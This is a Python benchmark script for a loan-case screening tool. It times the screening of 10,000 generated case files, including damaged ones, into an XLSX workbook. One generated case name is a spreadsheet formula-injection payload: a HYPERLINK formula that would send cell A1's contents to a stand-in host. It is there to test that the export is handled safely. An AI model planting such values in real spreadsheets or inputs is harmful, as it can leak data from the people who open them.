"""Issue 19's goal for portfolio screening: 10,000 case files screened into an XLSX in <= 20 s on this machine.

Generates the cases into a temporary folder from the 13 samples in resources/samples (each copy
renamed and its loan amount, turnover and cash varied, so no two cases are alike), plus a few
damaged files (cut short, not JSON, not a case, a wrong type, oversize) and a case with a hostile
name, then runs what `lendready screen FOLDER -o portfolio.xlsx` runs, and prints, as
`figure | value | goal | ratio`: the time to screen (assess every case, across the cores), to write
the workbook, the whole run, the cases per second, the CPU time per case in the workers (which other
work on a shared machine does not inflate) and the run that CPU time gives on idle cores, and the peak
resident memory (ru_maxrss) of this process and of the largest worker. Exits 1 if the run misses the
goal or a row is missing.

Run: .venv/bin/python bench/screening.py [--cases 10000] [--jobs N]
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import sys
import tempfile
import time
from datetime import date
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
SAMPLES = sorted((REPO / "resources" / "samples").glob("*.lendready"))
GOAL_SECONDS = 20.0
AS_OF = date(2026, 12, 1)
DAMAGED = {
    "cut_short.lendready": b'{"format": "lendready-case", "format_version": 1, "answers": {"org.name": "Cut',
    "not_json.lendready": b"\x00\x01PK\x03\x04 this is not a case file",
    "not_a_case.lendready": b'{"format": "something-else", "format_version": 1}',
    "wrong_type.lendready": b'{"format": "lendready-case", "format_version": 1, "answers": {"loan.amount": "lots"}}',
    "newer.lendready": b'{"format": "lendready-case", "format_version": 99}',
}


def generate(folder: Path, count: int) -> int:
    """``count`` files in ``folder``: varied copies of the samples, then the damaged ones; how many are damaged."""
    docs = [json.loads(p.read_text(encoding="utf-8")) for p in SAMPLES]
    damaged = dict(DAMAGED)
    damaged["oversize.lendready"] = b" " * (5 * 1024 * 1024 + 1)
    good = count - len(damaged)
    for i in range(good):
        doc = json.loads(json.dumps(docs[i % len(docs)]))
        answers = doc["answers"]
        scale = 0.6 + (i % 17) * 0.05  # 0.60 to 1.40
        answers["org.name"] = f"{answers.get('org.name', 'Case')} #{i:05d}"
        if i == 7:
            answers["org.name"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
        doc["case_id"] = f"00000000-0000-4000-8000-{i:012d}"
        for qid in ("loan.amount", "fin.turnover", "fin.cash"):
            if isinstance(answers.get(qid), (int, float)):
                answers[qid] = int(round(answers[qid] * scale / 1000) * 1000) or 1000
        (folder / f"case_{i:05d}.lendready").write_text(json.dumps(doc), encoding="utf-8")
    for name, content in damaged.items():
        (folder / name).write_bytes(content)
    return len(damaged)


def _maxrss_mb(who: int) -> float:
    peak = resource.getrusage(who).ru_maxrss
    return peak / (1024 * 1024) if sys.platform == "darwin" else peak / 1024


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--cases", type=int, default=10_000)
    parser.add_argument("--jobs", type=int, default=None)
    args = parser.parse_args()

    from lendready.domain.engine.knowledge import load
    from lendready.domain.screening import cores, screen, summarise
    from lendready.report.portfolio_xlsx import write_portfolio

    with tempfile.TemporaryDirectory(prefix="lendready-screen-bench-") as tmp:
        folder = Path(tmp) / "cases"
        folder.mkdir()
        started = time.perf_counter()
        damaged = generate(folder, args.cases)
        made = time.perf_counter() - started
        output = Path(tmp) / "portfolio.xlsx"

        load_average = os.getloadavg()[0] if hasattr(os, "getloadavg") else float("nan")
        began = time.perf_counter()
        knowledge = load()
        updates: list[int] = []
        rows = screen([folder], knowledge, AS_OF, progress=lambda done, total: updates.append(done),
                      workers=args.jobs)
        screened = time.perf_counter()
        portfolio = summarise(rows, knowledge, AS_OF)
        write_portfolio(portfolio, output)
        finished = time.perf_counter()
        size = output.stat().st_size
        children = resource.getrusage(resource.RUSAGE_CHILDREN)
        worker_cpu = children.ru_utime + children.ru_stime

    total = finished - began
    screen_s, write_s = screened - began, finished - screened
    workers = args.jobs or cores()
    per_case_ms = worker_cpu / portfolio.total * 1000 if worker_cpu else screen_s / portfolio.total * 1000
    idle = (worker_cpu / workers if worker_cpu else screen_s) + write_s
    ok = (total <= GOAL_SECONDS and portfolio.total == args.cases and portfolio.unreadable == damaged)
    print(f"# {args.cases:,} generated case files ({damaged} damaged) made in {made:.1f} s; "
          f"{workers} worker process(es) on {os.cpu_count()} cores; {len(updates)} progress calls; "
          f"load average {load_average:.2f} when it started")
    print(f"screen (assess {portfolio.total:,} cases) | {screen_s:.1f} s | | ")
    print(f"write the workbook ({size / 1024 / 1024:.1f} MB) | {write_s:.1f} s | | ")
    print(f"whole run | {total:.1f} s | <= {GOAL_SECONDS:.0f} s | {total / GOAL_SECONDS:.2f}x goal")
    print(f"cases per second | {portfolio.total / total:,.0f} | >= {args.cases / GOAL_SECONDS:,.0f} | ")
    print(f"CPU time per case in the workers | {per_case_ms:.1f} ms | <= {GOAL_SECONDS * workers / args.cases * 1000:.1f} ms"
          f" | {per_case_ms / (GOAL_SECONDS * workers / args.cases * 1000):.2f}x")
    print(f"whole run on {workers} idle core(s) (worker CPU / cores + write) | {idle:.1f} s | <= {GOAL_SECONDS:.0f} s | "
          f"{idle / GOAL_SECONDS:.2f}x goal")
    print(f"peak resident memory, this process | {_maxrss_mb(resource.RUSAGE_SELF):.0f} MB | | ")
    print(f"peak resident memory, largest worker | {_maxrss_mb(resource.RUSAGE_CHILDREN):.0f} MB | | ")
    print(f"rows: {portfolio.total:,} ({portfolio.assessed:,} assessed, {portfolio.unreadable} could not be read) | "
          + ", ".join(f"{c.label} {c.cases:,}" for c in portfolio.by_band))
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
